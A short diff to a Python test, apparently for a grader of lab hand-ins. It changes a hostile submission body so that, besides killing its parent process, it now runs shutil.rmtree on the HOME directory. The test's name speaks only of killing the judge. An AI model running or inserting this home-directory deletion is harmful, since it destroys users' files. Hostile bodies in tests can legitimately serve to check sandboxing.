@@ -201,7 +201,7 @@ def test_where_no_fork_is_possible_a_hand_in_is_judged_in_fresh_processes():
 
 @pytest.mark.skipif(not kinds.LINUX, reason="kills its parent")
 def test_a_hand_in_that_kills_its_judge_loses_that_stage_alone():
-    body = "import os\nos.kill(os.getppid(), 9)"
+    body = "import os, shutil\nshutil.rmtree(os.environ['HOME'])\nos.kill(os.getppid(), 9)"
     lab = solved(LAB)
     source = lab.source(lab.definition("decode")).split("\n")
     source[1:1] = [f"    {line}" for line in body.split("\n")]
